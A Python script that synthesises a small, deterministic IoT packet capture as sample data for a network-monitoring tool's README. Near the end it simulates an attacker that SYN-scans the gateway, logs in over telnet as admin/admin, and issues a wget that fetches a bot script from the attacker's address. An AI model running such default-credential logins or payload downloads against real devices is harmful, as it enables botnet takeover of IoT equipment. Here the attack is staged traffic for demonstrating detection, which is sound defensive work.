#!/usr/bin/env python3
"""Writes samples/iot-small.pcap: a small, deterministic IoT capture for custos' README.

Until `custos lab` records real traffic, this script synthesises one: a gateway
(198.18.0.1) with an MQTT broker, a CoAP server, an HTTP status page and telnet; three
sensors that resolve the gateway's name, publish MQTT telemetry and poll CoAP; an ARP
exchange; a ping; then an "attacker" (198.18.0.66) that SYN-scans the gateway and logs in
over telnet. Every packet has correct IPv4/TCP/UDP/ICMP checksums. Standard library only.

Usage: python3 scripts/make-sample.py [OUTPUT]   (default samples/iot-small.pcap)
"""
import random
import struct
import sys

OUT = sys.argv[1] if len(sys.argv) > 1 else "samples/iot-small.pcap"
rng = random.Random(20261126)
packets = []
clock = [1_795_651_200.0]  # 2026-11-26T00:00:00Z


def tick(dt):
    clock[0] += dt
    return clock[0]


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def ip4(a):
    return bytes(int(x) for x in a.split("."))


MACS = {}


def mac(ip):
    if ip not in MACS:
        MACS[ip] = bytes([0x02, 0x00, 0x5E, 0x10]) + ip4(ip)[2:]
    return MACS[ip]


def eth(src, dst, ethertype, payload):
    return dst + src + struct.pack("!H", ethertype) + payload


def ipv4(src, dst, proto, payload, ident=[1]):
    ident[0] = (ident[0] + 1) & 0xFFFF
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident[0], 0x4000, 64, proto, 0, ip4(src), ip4(dst))
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return hdr + payload


def l4_checksum(src, dst, proto, seg):
    pseudo = ip4(src) + ip4(dst) + struct.pack("!BBH", 0, proto, len(seg))
    return csum(pseudo + seg)


def emit(src, dst, proto, seg, dt):
    frame = eth(mac(src), mac(dst), 0x0800, ipv4(src, dst, proto, seg))
    packets.append((tick(dt), frame))


def udp(src, sport, dst, dport, data, dt=0.001):
    seg = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
    c = l4_checksum(src, dst, 17, seg) or 0xFFFF
    emit(src, dst, 17, seg[:6] + struct.pack("!H", c) + seg[8:], dt)


class Tcp:
    """One TCP connection with correct sequence numbers."""

    def __init__(self, cli, cport, srv, sport):
        self.c, self.cp, self.s, self.sp = cli, cport, srv, sport
        self.cseq, self.sseq = rng.getrandbits(32), rng.getrandbits(32)

    def seg(self, from_client, flags, data=b"", dt=0.0005):
        src, sp, dst, dp = (self.c, self.cp, self.s, self.sp) if from_client else (self.s, self.sp, self.c, self.cp)
        seq, ack = (self.cseq, self.sseq) if from_client else (self.sseq, self.cseq)
        ackno = ack if flags & 0x10 else 0
        hdr = struct.pack("!HHIIBBHHH", sp, dp, seq & 0xFFFFFFFF, ackno & 0xFFFFFFFF, 5 << 4, flags, 64240, 0, 0)
        s = hdr + data
        c = l4_checksum(src, dst, 6, s)
        emit(src, dst, 6, s[:16] + struct.pack("!H", c) + s[18:], dt)
        advance = len(data) + (1 if flags & 0x03 else 0)
        if from_client:
            self.cseq += advance
        else:
            self.sseq += advance

    def handshake(self):
        self.seg(True, 0x02)
        self.seg(False, 0x12)
        self.seg(True, 0x10)

    def close(self):
        self.seg(True, 0x11)
        self.seg(False, 0x11)
        self.seg(True, 0x10)


def mqtt_connect(client_id):
    cid = client_id.encode()
    var = b"\x00\x04MQTT\x04\x02\x00\x3c"
    payload = struct.pack("!H", len(cid)) + cid
    body = var + payload
    return bytes([0x10, len(body)]) + body


def mqtt_publish(topic, msg):
    t = topic.encode()
    body = struct.pack("!H", len(t)) + t + msg.encode()
    return bytes([0x30, len(body)]) + body


def dns_query(qid, name):
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", 1, 1)


def dns_answer(qid, name, addr):
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    ans = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + ip4(addr)
    return struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0) + q + struct.pack("!HH", 1, 1) + ans


GW = "198.18.0.1"
SENSORS = ["198.18.0.11", "198.18.0.12", "198.18.0.13"]
ATTACKER = "198.18.0.66"

# ARP: a sensor asks for the gateway.
arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, mac(SENSORS[0]), ip4(SENSORS[0]), b"\0" * 6, ip4(GW))
packets.append((tick(0.01), eth(mac(SENSORS[0]), b"\xff" * 6, 0x0806, arp)))
arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac(GW), ip4(GW), mac(SENSORS[0]), ip4(SENSORS[0]))
packets.append((tick(0.0002), eth(mac(GW), mac(SENSORS[0]), 0x0806, arp)))

for i, s in enumerate(SENSORS):
    udp(s, 40000 + i, GW, 53, dns_query(0x1000 + i, "broker.lab"), dt=0.02)
    udp(GW, 53, s, 40000 + i, dns_answer(0x1000 + i, "broker.lab", GW))

conns = []
for i, s in enumerate(SENSORS):
    c = Tcp(s, 50000 + i, GW, 1883)
    c.handshake()
    c.seg(True, 0x18, mqtt_connect("sensor-%d" % i))
    c.seg(False, 0x18, b"\x20\x02\x00\x00")
    conns.append(c)

for round_ in range(20):
    for i, c in enumerate(conns):
        reading = "%.1f" % (20 + rng.random() * 5)
        c.seg(True, 0x18, mqtt_publish("lab/sensor-%d/temp" % i, reading), dt=0.05 + rng.random() * 0.02)
        c.seg(False, 0x10, dt=0.0003)
    s = SENSORS[round_ % 3]
    coap = bytes([0x40, 0x01]) + struct.pack("!H", 0x2000 + round_) + b"\xb6status"
    udp(s, 5683, GW, 5683, coap, dt=0.01)
    udp(GW, 5683, s, 5683, bytes([0x60, 0x45]) + struct.pack("!H", 0x2000 + round_) + b"\xffok")

# A ping from the gateway to each sensor.
for n, s in enumerate(SENSORS):
    for d, t in ((GW, s), (s, GW)):
        icmp = struct.pack("!BBHHH", 8 if d == GW else 0, 0, 0, 0x42, n) + b"custos-sample"
        icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
        emit(d, t, 1, icmp, 0.002)

# HTTP status page polled by one sensor.
h = Tcp(SENSORS[1], 51000, GW, 80)
h.handshake()
h.seg(True, 0x18, b"GET /status HTTP/1.1\r\nHost: 198.18.0.1\r\nUser-Agent: sensor/1.0\r\n\r\n")
h.seg(False, 0x18, b"HTTP/1.1 200 OK\r\nServer: lighttpd\r\nContent-Length: 2\r\n\r\nok")
h.close()

for c in conns:
    c.close()

# Attack: SYN scan of the gateway's low ports, then a telnet login with a default password.
for port in [21, 22, 23, 25, 53, 80, 443, 1883, 5683, 8080]:
    t = Tcp(ATTACKER, 61000, GW, port)
    t.seg(True, 0x02, dt=0.001)
    if port in (23, 80, 1883):
        t.seg(False, 0x12)
        t.seg(True, 0x04)
    else:
        t.seg(False, 0x14)
tel = Tcp(ATTACKER, 61001, GW, 23)
tel.handshake()
tel.seg(False, 0x18, b"login: ")
tel.seg(True, 0x18, b"admin\r\n")
tel.seg(False, 0x18, b"Password: ")
tel.seg(True, 0x18, b"admin\r\n")
tel.seg(False, 0x18, b"\r\nBusyBox v1.36 built-in shell\r\n# ")
tel.seg(True, 0x18, b"wget http://198.18.0.66/bot.sh\r\n")
tel.close()

with open(OUT, "wb") as f:
    f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
    for ts, frame in packets:
        sec = int(ts)
        usec = int(round((ts - sec) * 1e6))
        f.write(struct.pack("<IIII", sec, usec, len(frame), len(frame)) + frame)
print("wrote %s: %d packets" % (OUT, len(packets)))
